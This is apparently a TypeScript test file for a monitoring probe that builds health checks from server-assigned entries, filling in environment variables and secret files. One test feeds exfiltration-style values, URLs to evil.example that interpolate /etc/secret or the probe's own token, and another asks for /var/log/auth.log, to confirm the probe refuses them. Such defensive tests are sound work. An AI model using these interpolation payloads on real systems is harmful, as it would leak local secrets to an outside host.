import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { memoryFiles } from '../../test/support/memory-files.ts';
import type { AssignedMonitorView } from '../faces/http/contract.ts';
import { probedMonitors } from './probe-monitors.ts';

describe('what a probe makes of its assignment', () => {
  test('has the timing of the server and the secrets of this machine', async () => {
    const { monitors, gaps } = await made(
      [
        assigned('api', { url: 'https://api.example', health: '/health' }, 'services'),
        assigned('db', { postgres: '${DB_URL}' }),
        assigned('cache', { redis: 'redis://:${CACHE_PASSWORD}@cache:6379' }),
      ],
      { DB_URL: 'postgres://app:pw@db/shop', CACHE_PASSWORD_FILE: '/run/secrets/cache' },
    );

    assert.deepEqual(gaps, []);
    assert.deepEqual(
      monitors.map(({ name, type, intervalMs, timeoutMs }) => [name, type, intervalMs, timeoutMs]),
      [
        ['api', 'http', 5_000, 700],
        ['db', 'postgres', 5_000, 700],
        ['cache', 'redis', 5_000, 700],
      ],
    );
    assert.equal(Object(monitors[0]?.settings).http.reveal(), 'https://api.example/health');
    assert.equal(Object(monitors[2]?.settings).redis.reveal(), 'redis://:from-file@cache:6379');
  });

  test('names the variable that is missing, and goes on with the rest', async () => {
    const { monitors, gaps } = await made([
      assigned('db', { postgres: '${DB_URL}' }),
      assigned('web', { http: 'https://web.example' }),
    ]);

    assert.deepEqual(
      monitors.map(({ name }) => name),
      ['web'],
    );
    assert.deepEqual(gaps, [{ monitor: 'db', reason: 'The variable DB_URL is not set.' }]);
  });

  test('names what this version does not know', async () => {
    const { gaps } = await made([assigned('x', { holodeck: 'computer' })]);

    assert.match(gaps[0]?.reason ?? '', /expected one of the keys http, /);
  });

  test('reaches no more from here than it may from the server', async () => {
    const { monitors } = await made([
      assigned('added', { http: 'https://web.example', added_by: 'token ci' }),
      assigned('written', { http: 'https://web.example' }),
    ]);

    assert.deepEqual(
      monitors.map(({ reach }) => reach),
      ['api', 'manifest'],
    );
  });

  test('reads no log of this machine for a server', async () => {
    const { monitors, gaps } = await made([assigned('errors', { log: '/var/log/auth.log', min_lines: 50 })]);

    assert.equal(monitors.length, 0);
    assert.match(gaps[0]?.reason ?? '', /reads no log files/);
  });

  test('opens no file of this machine, and no variable of the probe itself', async () => {
    const { gaps } = await made(
      [
        assigned('a', { http: 'https://evil.example/${file:/etc/secret}' }),
        assigned('b', { http: 'https://evil.example/${EVENKEEL_TOKEN}' }),
      ],
      { EVENKEEL_TOKEN: 'ek_probe_1_x', SOME_FILE: '/run/secrets/cache' },
    );

    assert.deepEqual(gaps, [
      { monitor: 'a', reason: 'There is no file /etc/secret.' },
      { monitor: 'b', reason: 'The variable EVENKEEL_TOKEN is not set.' },
    ]);
  });

  function made(all: readonly AssignedMonitorView[], variables: Readonly<Record<string, string>> = {}) {
    const files = memoryFiles({ '/run/secrets/cache': 'from-file\n', '/etc/secret': 'no' });
    return probedMonitors(all, { variables, files });
  }

  function assigned(
    name: string,
    entry: Readonly<Record<string, unknown>>,
    section: 'services' | 'monitors' = 'monitors',
  ): AssignedMonitorView {
    return { name, section, entry, intervalMs: 5_000, timeoutMs: 700 };
  }
});
